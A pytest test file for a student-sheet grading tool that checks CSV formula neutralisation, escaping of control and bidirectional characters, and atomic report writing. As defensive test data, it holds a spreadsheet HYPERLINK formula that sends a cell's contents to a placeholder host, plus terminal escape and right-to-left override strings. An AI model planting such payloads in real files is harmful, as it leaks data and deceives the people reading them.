"""A class report from untrusted sheets: inert strings in every file, written whole or not at all.

The rules written out here are the sources of the expected values:
- OWASP, "CSV Injection": a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return
  is read as a formula; prefixing it with a single quote makes a spreadsheet show it as text.
- JSON Lines: a document per line; U+2028 and U+2029 end a line for JavaScript and for Python's
  `str.splitlines`, so they must be written as `\\u2028` / `\\u2029`.
- A control or bidirectional-override character from a sheet is shown as a visible escape
  (`\\x1b`, `\\u202e`), never raw.
"""

from __future__ import annotations

import contextlib
import csv
import json
import os
import re
import resource
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from typer.testing import CliRunner

from nncheck import classroom
from nncheck.cli import app

BANK = """\
id: q2
parts:
  - {id: a, ask: loss, fn: cross_entropy, y_true: [0, 0, 1, 0], y_pred: [0.25, 0.25, 0.3, 0.2]}
  - {id: pick, ask: choice, options: [A, B], key: A}
  - {id: why, ask: manual, rubric: says why, points: 2}
"""
# A right loss (1 point) and a right choice (1 point); `why` waits for a person (2 points).
TOTAL, MAX = "2", "4"

# Raw control characters, bidirectional overrides and line separators, for the assertions.
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029]")


def sheet(sid: str, name: str, why: str = "because") -> str:
    """A sheet; `sid`, `name` and `why` are YAML double-quoted scalars (escapes allowed)."""
    return (f'student: {{id: "{sid}", name: "{name}"}}\n'
            f"answers:\n  q2: {{a: '-log(0.3)', pick: A, why: \"{why}\"}}\n")


@pytest.fixture
def bank(tmp_path: Path) -> Path:
    folder = tmp_path / "bank"
    folder.mkdir()
    (folder / "q2.yaml").write_text(BANK, encoding="utf-8")
    return folder


@pytest.fixture
def klass(tmp_path: Path) -> Path:
    folder = tmp_path / "class"
    folder.mkdir()
    for n in range(1, 31):
        (folder / f"s{n:02d}.yaml").write_text(sheet(f"s{n:02d}", f"Student {n}"), "utf-8")
    return folder


def grade(*args: object) -> tuple[int, str, str]:
    result = CliRunner().invoke(app, ["grade", *(str(a) for a in args)])
    return result.exit_code, result.stdout, result.stderr


def table(out: Path) -> list[list[str]]:
    with open(out / "grades.csv", encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def files(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes()
            for p in sorted(folder.rglob("*")) if p.is_file()}


# --- item 10: CSV formula injection ---------------------------------------------------------------

# (what the student writes, in YAML double quotes; what the cell must hold: a quote first,
# control characters escaped)
# (written in YAML, in a file name, in a cell from YAML, in the `sheet` cell): a tab or CR in a
# file name is already shown escaped (`\t`), which no spreadsheet reads as a formula.
PREFIXES = [
    pytest.param("=", "=", "'=", "'=", id="equals"),
    pytest.param("+", "+", "'+", "'+", id="plus"),
    pytest.param("-", "-", "'-", "'-", id="minus"),
    pytest.param("@", "@", "'@", "'@", id="at"),
    pytest.param("\\t", "\t", "'\\t", "\\t", id="tab"),
    pytest.param("\\r", "\r", "'\\r", "\\r", id="carriage-return"),
]


@pytest.mark.parametrize("yaml_prefix, raw_prefix, cell_prefix, sheet_prefix", PREFIXES)
def test_a_formula_in_any_student_string_of_grades_csv_is_neutralised(
        bank, tmp_path, monkeypatch, yaml_prefix, raw_prefix, cell_prefix, sheet_prefix):
    folder = tmp_path / "c"
    folder.mkdir()
    payload = 'HYPERLINK("http://x.example/?"&A1,"click")'
    yaml_payload = payload.replace('"', '\\"')
    (folder / f"{raw_prefix}sheet.yaml").write_text(
        sheet(f"{yaml_prefix}id", f"{yaml_prefix}{yaml_payload}"), encoding="utf-8")
    (folder / f"{raw_prefix}broken.yaml").write_text("student: {id: [\n", encoding="utf-8")
    monkeypatch.chdir(folder)  # CLASS_DIR `.`: the sheet column starts with the file name
    out = tmp_path / "out"
    code, _, _ = grade(".", "-p", bank, "-o", out, "-j", "1")
    assert code == 1
    header, broken, graded = table(out)
    assert header == ["id", "name", "q2", "total", "max", "status", "error", "sheet"]
    assert graded[:2] == [f"{cell_prefix}id", f"{cell_prefix}{payload}"]
    assert graded[2:6] == [TOTAL, TOTAL, MAX, "pending"]  # numbers stay numbers
    assert graded[7] == f"{sheet_prefix}sheet.yaml"
    assert broken[5] == "error"
    assert broken[6].startswith(f"{sheet_prefix}broken.yaml:2:")
    assert broken[7] == f"{sheet_prefix}broken.yaml"
    for row in (broken, graded):
        for cell in row:
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_a_formula_after_leading_spaces_is_neutralised_too(bank, tmp_path):
    folder = tmp_path / "c"
    folder.mkdir()
    (folder / "s1.yaml").write_text(sheet("s1", "  =1+1"), encoding="utf-8")
    grade(folder, "-p", bank, "-o", tmp_path / "out")
    assert table(tmp_path / "out")[1][1] == "'  =1+1"


# --- item 11: results.jsonl, feedback/ and gradescope/ -----------------------------------------

def test_line_separators_in_student_strings_do_not_split_results_jsonl(bank, tmp_path):
    folder = tmp_path / "c"
    folder.mkdir()
    (folder / "s1.yaml").write_text(sheet("s1", "Ada\\u2028Lovelace\\u2029"), encoding="utf-8")
    (folder / "x\u2028y.yaml").write_text("student: {id: [\n", encoding="utf-8")
    out = tmp_path / "out"
    grade(folder, "-p", bank, "-o", out)
    raw = (out / "results.jsonl").read_text("utf-8")
    assert "\u2028" not in raw and "\u2029" not in raw
    assert "\\u2028" in raw and "\\u2029" in raw
    lines = raw.splitlines()
    assert len(lines) == 2  # one per sheet
    graded, broken = json.loads(lines[0]), json.loads(lines[1])
    assert graded["student"]["name"] == "Ada\u2028Lovelace\u2029"  # the same value, decoded
    assert broken["sheet"] == str(folder / "x\\u2028y.yaml")  # a file name is shown escaped


def test_feedback_and_gradescope_show_control_and_bidi_characters_escaped(bank, tmp_path):
    folder = tmp_path / "c"
    folder.mkdir()
    (folder / "s1.yaml").write_text(
        sheet("s1", "\\e[2JEve", why="\\e]0;pwned\\a\\u202eevil"), encoding="utf-8")
    out = tmp_path / "out"
    grade(folder, "-p", bank, "-o", out, "--reveal", "expected")
    feedback = (out / "feedback" / "s1.txt").read_text("utf-8")
    assert not RAW.search(feedback)
    assert "s1 (\\x1b[2JEve)" in feedback
    assert "\\x1b]0;pwned\\x07\\u202eevil" in feedback
    scorecard = json.loads((out / "gradescope" / "s1.json").read_text("utf-8"))
    shown = [scorecard["output"], *(t["output"] for t in scorecard["tests"])]
    assert not [s for s in shown if RAW.search(s)]
    why = next(t for t in scorecard["tests"] if t["name"] == "q2 / why")
    assert "your answer: \\x1b]0;pwned\\x07\\u202eevil" in why["output"]


def test_the_statistics_printed_show_student_strings_escaped(bank, tmp_path):
    folder = tmp_path / "c"
    folder.mkdir()
    for n in (1, 2):  # one id on two sheets: both are listed under "Sheets not graded"
        (folder / f"s{n}.yaml").write_text(sheet("\\e[2Jx", "X"), encoding="utf-8")
    code, stdout, _ = grade(folder, "-p", bank, "-o", tmp_path / "out", "--format", "text")
    assert code == 1
    assert not RAW.search(stdout)
    assert "student id `\\x1b[2Jx` is also used by" in stdout


def test_summary_json_writes_line_separators_and_bidi_characters_escaped(bank, tmp_path):
    folder = tmp_path / "c"
    folder.mkdir()
    # An answer to a part the bank does not have is a warning that quotes the part's name.
    (folder / "s1.yaml").write_text(
        "student: {id: s1, name: Ada}\n"
        "answers: {q2: {a: '-log(0.3)', pick: A, \"x\\u202e\\u2028y\": 1}}\n", "utf-8")
    out = tmp_path / "out"
    grade(folder, "-p", bank, "-o", out)
    raw = (out / "summary.json").read_text("utf-8")
    assert not RAW.search(raw.replace("\n", ""))
    assert "x\\u202e\\u2028y" in raw
    (warning,) = json.loads(raw)["warnings"]
    assert "x\u202e\u2028y" in warning["warning"]  # the same text, decoded


# --- item 16: a report that cannot be written ---------------------------------------------------

def test_an_out_that_is_a_file_is_refused_before_any_sheet_is_graded(bank, klass, tmp_path,
                                                                     monkeypatch):
    def never(sheet):
        raise AssertionError("a sheet was graded")

    monkeypatch.setattr(classroom, "_grade_file", never)
    taken = tmp_path / "taken"
    taken.write_text("mine\n", encoding="utf-8")
    code, _, stderr = grade(klass, "-p", bank, "-o", taken, "-j", "1")
    assert code == 2
    assert stderr.strip() == f"error: {taken}: not a folder — --out DIR, a folder for the report"
    assert taken.read_text("utf-8") == "mine\n"


def test_an_out_under_a_file_is_an_input_output_error_before_grading(bank, klass, tmp_path,
                                                                     monkeypatch):
    def never(sheet):
        raise AssertionError("a sheet was graded")

    monkeypatch.setattr(classroom, "_grade_file", never)
    (tmp_path / "file").write_text("", encoding="utf-8")
    out = tmp_path / "file" / "out"
    code, _, stderr = grade(klass, "-p", bank, "-o", out, "-j", "1")
    assert code == 2
    assert stderr.strip() == (f"error: {out}: cannot write the report: {tmp_path / 'file'} is "
                              "not a folder — --out DIR, a folder nncheck can create and write")
    assert len(stderr.strip().splitlines()) == 1
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bank", "class", "file"]


def test_an_out_holding_other_files_is_refused_and_left_alone(bank, klass, tmp_path, monkeypatch):
    def never(sheet):
        raise AssertionError("a sheet was graded")

    monkeypatch.setattr(classroom, "_grade_file", never)
    out = tmp_path / "out"
    out.mkdir()
    (out / "notes.txt").write_text("mine\n", encoding="utf-8")
    code, _, stderr = grade(klass, "-p", bank, "-o", out, "-j", "1")
    assert code == 2
    assert stderr == (f"error: {out}: holds `notes.txt`, which is not part of a report — "
                      "--out DIR, a new folder or an earlier report (it is replaced whole)\n")
    assert files(out) == {"notes.txt": b"mine\n"}


def nncheck(*args: object, limit: int | None = None) -> subprocess.Popen[bytes]:
    """`nncheck ARGS` in a child process (with a file-size limit: a disk that fills up)."""
    def limited() -> None:
        if limit is not None:
            signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past it fails with EFBIG
            resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    return subprocess.Popen([sys.executable, "-m", "nncheck", *map(str, args)], env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, preexec_fn=limited)


@pytest.mark.parametrize("jobs", ["1", "2"])  # one process writes, however many grade
def test_a_full_disk_is_an_input_output_error_and_the_old_report_stays(bank, klass, tmp_path,
                                                                       jobs):
    out = tmp_path / "out"
    assert grade(klass, "-p", bank, "-o", out)[0] == 0
    before = files(out)
    biggest = max(map(len, before.values()))  # results.jsonl: it cannot be written whole
    (klass / "s01.yaml").write_text(sheet("s01", "Ada", why="changed"), encoding="utf-8")
    child = nncheck("grade", klass, "-p", bank, "-o", out, "-j", jobs, "-f", "text",
                    limit=biggest // 2)
    _, stderr = child.communicate(timeout=120)
    assert child.returncode == 2, stderr
    assert stderr.decode().startswith(f"error: {out}: cannot write the report: File too large")
    assert files(out) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bank", "class", "out"]


# --- item 17: interrupted while writing; the umask ---------------------------------------------

def snapshot(folder: Path) -> set[tuple[str, int]]:
    """Every path under a folder, with its inode (a file replaced by a rename is a new one)."""
    found = set()
    for root, dirs, names in os.walk(folder):
        for name in dirs + names:
            path = os.path.join(root, name)
            with contextlib.suppress(FileNotFoundError):  # removed while we look
                found.add((path, os.lstat(path).st_ino))
    return found


@pytest.mark.parametrize("signum, when, jobs", [
    pytest.param(signal.SIGINT, "first-write", 1, id="ctrl-c-first-write"),
    pytest.param(signal.SIGTERM, "first-write", 1, id="sigterm-first-write"),
    pytest.param(signal.SIGINT, "feedback-written", 1, id="ctrl-c-feedback-written"),
    pytest.param(signal.SIGTERM, "feedback-written", 1, id="sigterm-feedback-written"),
    pytest.param(signal.SIGINT, "feedback-written", 2, id="ctrl-c-feedback-written-2-jobs"),
    pytest.param(signal.SIGTERM, "feedback-written", 2, id="sigterm-feedback-written-2-jobs"),
])
def test_a_stopped_run_leaves_the_old_report_whole_and_no_temporary_file(
        bank, klass, tmp_path, signum, when, jobs):
    for n in range(31, 301):
        (klass / f"s{n:03d}.yaml").write_text(sheet(f"s{n:03d}", f"S{n}"), encoding="utf-8")
    out = tmp_path / "out"
    assert grade(klass, "-p", bank, "-o", out, "-j", "1")[0] == 0
    before = files(out)
    for path in klass.glob("*.yaml"):  # every sheet changes: any new file shows in the report
        path.write_text(sheet(path.stem, "Renamed"), encoding="utf-8")
    seen = snapshot(tmp_path)
    child = nncheck("grade", klass, "-p", bank, "-o", out, "-j", jobs, "-f", "text")
    # Stop it as soon as it changes anything beside the class (first-write), or once it has
    # written a student's feedback (feedback-written): no timing, only what is on disk.
    while child.poll() is None:
        new = {path for path, _ in snapshot(tmp_path) - seen}
        if (when == "first-write" and new) or any("feedback" in p for p in new):
            child.send_signal(signum)
            break
        time.sleep(0.002)
    _, stderr = child.communicate(timeout=120)
    assert child.returncode == 130, stderr
    assert b"interrupted" in stderr
    assert files(out) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bank", "class", "out"]


def test_a_new_report_replaces_the_old_one_whole(bank, klass, tmp_path):
    out = tmp_path / "out"
    grade(klass, "-p", bank, "-o", out)
    (klass / "s02.yaml").unlink()
    grade(klass, "-p", bank, "-o", out)
    assert not (out / "feedback" / "s02.txt").exists()
    assert not (out / "gradescope" / "s02.json").exists()
    assert [r[0] for r in table(out)[1:]] == [f"s{n:02d}" for n in range(1, 31) if n != 2]


@pytest.mark.parametrize("mask, file_mode, dir_mode", [
    pytest.param(0o022, 0o644, 0o755, id="022"),
    pytest.param(0o027, 0o640, 0o750, id="027"),
])
def test_every_output_honours_the_umask(bank, klass, tmp_path, mask, file_mode, dir_mode):
    old = os.umask(mask)
    try:
        out = tmp_path / "out"
        grade(klass, "-p", bank, "-o", out)
        key = tmp_path / "key.yaml"
        CliRunner().invoke(app, ["solve", str(bank), "--sheet", str(key), "-f", "json"])
    finally:
        os.umask(old)
    modes = {str(p.relative_to(tmp_path)): p.stat().st_mode & 0o777
             for p in [out, *out.rglob("*"), key]}
    assert modes["out"] == dir_mode
    assert modes["out/feedback"] == modes["out/gradescope"] == dir_mode
    for name in ("out/grades.csv", "out/results.jsonl", "out/summary.json",
                 "out/feedback/s01.txt", "out/gradescope/s01.json", "key.yaml"):
        assert modes[name] == file_mode, name


def test_the_current_folder_is_never_the_report(bank, klass, tmp_path, monkeypatch):
    out = tmp_path / "out"
    out.mkdir()
    monkeypatch.chdir(out)
    code, _, stderr = grade(klass, "-p", bank, "-o", ".")
    assert code == 2
    assert stderr == ("error: .: is the current folder, or holds it — "
                      "--out DIR, a folder of its own for the report\n")
    assert list(out.iterdir()) == []


def test_a_symbolic_link_to_the_report_stays_a_link(bank, klass, tmp_path):
    real = tmp_path / "real"
    link = tmp_path / "link"
    grade(klass, "-p", bank, "-o", real)
    link.symlink_to(real, target_is_directory=True)
    (klass / "s02.yaml").unlink()
    assert grade(klass, "-p", bank, "-o", link)[0] == 0
    assert link.is_symlink() and link.resolve() == real
    assert [r[0] for r in table(real)[1:]] == [f"s{n:02d}" for n in range(1, 31) if n != 2]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bank", "class", "link", "real"]


def test_without_an_atomic_exchange_the_report_is_still_replaced_whole(bank, klass, tmp_path,
                                                                       monkeypatch):
    from nncheck.io import report as report_files

    monkeypatch.setattr(report_files, "_exchange", lambda a, b: False)  # as on macOS
    out = tmp_path / "out"
    grade(klass, "-p", bank, "-o", out)
    (klass / "s02.yaml").unlink()
    assert grade(klass, "-p", bank, "-o", out)[0] == 0
    assert not (out / "feedback" / "s02.txt").exists()
    assert len(table(out)) == 1 + 29
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bank", "class", "out"]
